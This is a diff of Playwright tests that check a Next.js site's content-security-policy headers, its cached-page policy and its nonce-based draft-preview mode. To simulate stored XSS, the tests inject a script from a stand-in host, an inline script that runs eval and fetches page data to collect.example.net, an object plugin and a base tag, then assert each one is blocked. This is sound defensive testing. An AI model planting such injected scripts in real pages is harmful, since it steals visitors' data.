@@ -21,31 +21,36 @@ function directive(policy: string, name: string): string {
   return (policy.split(';').map((part) => part.trim()).find((part) => part.startsWith(`${name} `)) ?? '').slice(name.length + 1);
 }
 
+/** Every source of every directive but frame-ancestors is a keyword or a scheme: no origin but the site's own. */
+function foreignSources(policy: string): string[] {
+  return policy
+    .split(';')
+    .map((part) => part.trim().split(/\s+/))
+    .filter(([name]) => name && name !== 'frame-ancestors')
+    .flatMap(([, ...values]) => values)
+    .filter((value) => !/^'[a-z-]+'$/.test(value) && !/^(data|blob):$/.test(value));
+}
+
 for (const path of ALL_PATHS) {
-  test(`${path} carries every security header and no cookie`, async ({ request }) => {
+  test(`${path} carries every security header, the cached-page policy and no cookie`, async ({ request }) => {
     const response = await request.get(path, { maxRedirects: 0 });
     const headers = response.headers();
     for (const [name, pattern] of Object.entries(REQUIRED_HEADERS)) {
       expect(headers[name], name).toMatch(pattern);
     }
     const policy = headers['content-security-policy']!;
-    const scripts = directive(policy, 'script-src');
-    expect(scripts).toMatch(/'nonce-[A-Za-z0-9+/=]{16,}'/);
-    expect(scripts).not.toMatch(/unsafe-inline|unsafe-eval/);
+    // One cached HTML for every visitor: Next's inline bootstrap is allowed, script files only from the site.
+    expect(directive(policy, 'script-src')).toBe("'self' 'unsafe-inline'");
     expect(directive(policy, 'default-src')).toBe("'self'");
+    expect(directive(policy, 'connect-src')).toBe("'self'");
     expect(directive(policy, 'object-src')).toBe("'none'");
+    expect(directive(policy, 'base-uri')).toBe("'self'");
+    expect(directive(policy, 'form-action')).toBe("'self'");
+    expect(directive(policy, 'frame-ancestors')).toBe(`'self' ${E2E_STUDIO_ORIGIN}`);
+    expect(foreignSources(policy)).toEqual([]);
     expect(headers['set-cookie']).toBeUndefined();
   });
 }
-
-test('every response gets its own nonce', async ({ request }) => {
-  const nonces = new Set<string>();
-  for (let i = 0; i < 3; i++) {
-    const policy = (await request.get('/')).headers()['content-security-policy']!;
-    nonces.add(/'nonce-([^']+)'/.exec(policy)![1]!);
-  }
-  expect(nonces.size).toBe(3);
-});
 
 /** Records CSP violations (as the page reports them) and every request the page makes. */
 async function watch(page: Page) {
@@ -80,7 +85,7 @@ for (const { name, path } of PAGE_TYPES) {
     });
     await page.goto(path);
     await page.waitForLoadState('networkidle');
-    // The framework's scripts did run (they were allowed by the nonce): React hydrated the page.
+    // The framework's scripts did run (allowed by the policy): React hydrated the page.
     await expect.poll(() => page.evaluate(() => '__next_f' in self)).toBe(true);
     expect(await watched.violations()).toEqual([]);
     const origin = new URL(baseURL!).origin;
@@ -91,17 +96,50 @@ for (const { name, path } of PAGE_TYPES) {
   });
 }
 
-test('an inline script injected into the HTML is blocked', async ({ page }) => {
-  const watched = await watch(page);
-  // Stands for stored XSS: the page arrives with an extra inline script that has no nonce.
+/** Serves /contact with `extra` added to its HTML, standing for stored XSS in the cached page. */
+async function injectIntoContact(page: Page, extra: string) {
   await page.route('**/contact', async (route) => {
     const response = await route.fetch();
-    const html = (await response.text()).replace('</main>', '<script>window.__injected = true</script></main>');
+    const html = (await response.text()).replace('</main>', `${extra}</main>`);
     await route.fulfill({ response, body: html });
   });
+}
+
+test('a script from another origin injected into the HTML is blocked and never fetched', async ({ page }) => {
+  const watched = await watch(page);
+  // The foreign origin answers (through the test's router) with a script that would leave a mark if it ran.
+  const fetched: string[] = [];
+  await page.route('https://scripts.example.net/**', async (route) => {
+    fetched.push(route.request().url());
+    await route.fulfill({ contentType: 'text/javascript', body: 'window.__stolen = true;' });
+  });
+  await injectIntoContact(page, '<script src="https://scripts.example.net/steal.js"></script>');
   await page.goto('/contact');
-  expect(await page.evaluate(() => (window as unknown as { __injected?: boolean }).__injected)).toBeUndefined();
-  expect((await watched.violations()).join('\n')).toMatch(/script-src/);
+  await page.waitForLoadState('networkidle');
+  expect((await watched.violations()).join('\n')).toMatch(/script-src.*blocked https:\/\/scripts\.example\.net/);
+  expect(await page.evaluate(() => (window as unknown as { __stolen?: boolean }).__stolen)).toBeUndefined();
+  expect(fetched).toEqual([]);
+});
+
+test('injected code can neither eval, nor send what it reads to another origin, nor embed a plugin', async ({ page }) => {
+  const watched = await watch(page);
+  // What the cached-page policy still refuses to an inline script that got in (see docs/security.md).
+  await injectIntoContact(
+    page,
+    `<script>
+      try { eval('window.__evaluated = true'); } catch {}
+      fetch('https://collect.example.net/?d=' + encodeURIComponent(document.title)).catch(() => {});
+    </script><object data="https://plugins.example.net/x.swf"></object><base href="https://base.example.net/">`,
+  );
+  await page.goto('/contact');
+  await page.waitForLoadState('networkidle');
+  expect(await page.evaluate(() => (window as unknown as { __evaluated?: boolean }).__evaluated)).toBeUndefined();
+  const violations = (await watched.violations()).join('\n');
+  expect(violations).toMatch(/script-src.*eval/);
+  expect(violations).toMatch(/connect-src.*collect\.example\.net/);
+  expect(violations).toMatch(/object-src/);
+  expect(violations).toMatch(/base-uri/);
+  expect(watched.requests.filter((url) => /example\.net/.test(url))).toEqual([]);
 });
 
 test.describe('framing', () => {
@@ -165,9 +203,14 @@ test.describe('draft preview', () => {
     }
   });
 
-  test('the right secret shows drafts on that page until preview is left; visitors never see them', async ({ page, browser }) => {
+  /** Opens the preview the way the Presentation tool does; the browser then carries the draft-mode cookie. */
+  async function enterPreview(page: Page) {
     const search = new URLSearchParams({ 'sanity-preview-secret': SECRET, 'sanity-preview-pathname': ARTICLE_PATH });
     await page.goto(`/api/draft-mode/enable?${search}`);
+  }
+
+  test('the right secret shows drafts on that page until preview is left; visitors never see them', async ({ page, browser }) => {
+    await enterPreview(page);
     expect(new URL(page.url()).pathname).toBe(ARTICLE_PATH);
     await expect(page.getByRole('heading', { level: 1 })).toHaveText(DRAFT_TITLE);
 
@@ -179,5 +222,37 @@ test.describe('draft preview', () => {
     await page.getByRole('link', { name: 'Leave preview' }).click();
     await page.goto(ARTICLE_PATH);
     await expect(page.getByRole('heading', { level: 1 })).not.toHaveText(DRAFT_TITLE);
+  });
+
+  test('preview pages are rendered per request under a nonce policy, never cached', async ({ page }) => {
+    await enterPreview(page);
+    const nonces = new Set<string>();
+    for (const path of [ARTICLE_PATH, ARTICLE_PATH, '/articles?topic=anxiety']) {
+      const response = await page.request.get(path);
+      const headers = response.headers();
+      const scripts = directive(headers['content-security-policy']!, 'script-src');
+      expect(scripts).toMatch(/^'self' 'nonce-[A-Za-z0-9+/=]{16,}' 'strict-dynamic'$/);
+      const nonce = /'nonce-([^']+)'/.exec(scripts)![1]!;
+      nonces.add(nonce);
+      // Next stamped this response's nonce on the scripts it wrote: the page was rendered for this request.
+      expect(await response.text()).toContain(`nonce="${nonce}"`);
+      expect(headers['cache-control']).toMatch(/no-store/);
+    }
+    expect(nonces.size).toBe(3);
+  });
+
+  test('in preview an injected inline script is blocked and the page runs without a violation', async ({ page }) => {
+    await enterPreview(page);
+    const watched = await watch(page);
+    await page.goto('/articles?topic=anxiety');
+    await page.waitForLoadState('networkidle');
+    await expect.poll(() => page.evaluate(() => '__next_f' in self)).toBe(true);
+    expect(await watched.violations()).toEqual([]);
+
+    await injectIntoContact(page, '<script>window.__injected = true</script>');
+    await page.goto('/contact');
+    await expect(page.getByRole('link', { name: 'Leave preview' })).toBeVisible();
+    expect(await page.evaluate(() => (window as unknown as { __injected?: boolean }).__injected)).toBeUndefined();
+    expect((await watched.violations()).join('\n')).toMatch(/script-src/);
   });
 });
